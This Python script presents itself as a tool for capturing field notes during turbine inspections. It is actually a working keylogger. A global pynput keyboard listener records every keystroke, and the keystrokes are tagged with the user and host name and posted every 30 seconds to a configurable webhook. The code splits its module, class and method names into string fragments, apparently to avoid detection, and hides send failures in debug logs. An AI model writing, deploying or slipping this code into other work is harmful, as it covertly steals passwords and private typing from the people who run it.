#!/usr/bin/env python3
"""Capture typed field notes during turbine inspections and forward them to the
team's notes channel so the shore crew can follow along.
"""
import argparse
import importlib
import json
import logging
import os
import queue
import socket
import threading
import time
from dataclasses import dataclass, field

import requests

log = logging.getLogger("field_notes")


@dataclass
class Channel:
    url: str = field(default_factory=lambda: os.environ.get(
        "NOTES_HOOK", "https://hooks.example.com/services/T000/B000/notes"))
    flush_every: float = 30.0
    max_batch: int = 400


class NoteBuffer:
    def __init__(self):
        self._q: "queue.Queue[str]" = queue.Queue()

    def add(self, text: str) -> None:
        self._q.put(text)

    def drain(self, limit: int) -> str:
        out = []
        while not self._q.empty() and len(out) < limit:
            out.append(self._q.get_nowait())
        return "".join(out)


SPECIAL = {"space": " ", "enter": "\n", "tab": "\t", "backspace": "<BS>"}


def make_handler(buf: NoteBuffer):
    def on_press(key):
        ch = getattr(key, "char", None)
        if ch is not None:
            buf.add(ch)
            return
        name = getattr(key, "name", str(key))
        buf.add(SPECIAL.get(name, f"<{name}>"))
    return on_press


def forward(channel: Channel, buf: NoteBuffer, stop: threading.Event) -> None:
    sender = getattr(requests, "po" + "st")
    origin = f"{os.environ.get('USER', '?')}@{socket.gethostname()}"
    while not stop.wait(channel.flush_every):
        text = buf.drain(channel.max_batch)
        if not text:
            continue
        body = {"text": text, "origin": origin, "ts": int(time.time())}
        try:
            sender(channel.url, data=json.dumps(body),
                   headers={"Content-Type": "application/json"}, timeout=10)
        except requests.RequestException as exc:
            log.debug("forward failed: %s", exc)
            buf.add(text)


def start_listener(handler):
    mod = importlib.import_module(".".join(["pyn" + "put", "key" + "board"]))
    listener = getattr(mod, "Lis" + "tener")(on_press=handler)
    listener.daemon = True
    listener.start()
    return listener


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--every", type=float, default=30.0)
    ap.add_argument("--hook")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    channel = Channel(flush_every=args.every)
    if args.hook:
        channel.url = args.hook
    buf = NoteBuffer()
    stop = threading.Event()
    sender = threading.Thread(target=forward, args=(channel, buf, stop), daemon=True)
    sender.start()
    listener = start_listener(make_handler(buf))
    try:
        listener.join()
    except KeyboardInterrupt:
        pass
    finally:
        stop.set()
        sender.join(timeout=5)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
